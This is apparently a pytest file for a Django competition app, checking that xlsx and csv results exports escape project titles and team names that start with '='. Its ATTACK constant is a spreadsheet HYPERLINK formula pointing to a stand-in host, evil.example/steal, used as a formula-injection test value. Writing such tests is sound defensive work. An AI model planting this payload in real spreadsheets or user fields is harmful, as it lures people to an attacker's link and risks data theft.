"""Results downloads: a team's own text comes out as inert text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from podium.registration.models import Project, Team
from tests.scenarios import publish, scored_panel, signed_off

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/steal","点击查看")'
TEAM = "=1+2"


@pytest.fixture
def published_with_attack():
    """A published track whose first project's title and team name are formulas."""
    scenario = scored_panel(size=3, judges=3, quota=1)
    project = scenario.entries[0].project
    Project.objects.filter(pk=project.pk).update(title=ATTACK)
    Team.objects.filter(pk=project.team_id).update(name=TEAM)
    publish(signed_off(scenario))
    return scenario, project.code


def export_url(scenario, kind: str) -> str:
    return reverse("results:export", args=[scenario.stage.pk, scenario.track.code, kind])


def test_results_xlsx_title_and_team_starting_with_equals_are_text(client, published_with_attack):
    scenario, code = published_with_attack

    book = load_workbook(io.BytesIO(client.get(export_url(scenario, "xlsx")).content))
    row = next(r for r in book.active.iter_rows() if r[1].value == code)

    assert [(c.value, c.data_type) for c in row[2:4]] == [("'" + ATTACK, "s"), ("'=1+2", "s")]
    assert (row[0].value, row[0].data_type) == (1, "n")


def test_results_csv_title_and_team_starting_with_equals_are_quoted(client, published_with_attack):
    scenario, code = published_with_attack

    text = client.get(export_url(scenario, "csv")).content.decode()
    row = next(r for r in csv.reader(io.StringIO(text)) if r[1:2] == [code])

    assert row[:4] == ["1", code, "'" + ATTACK, "'=1+2"]
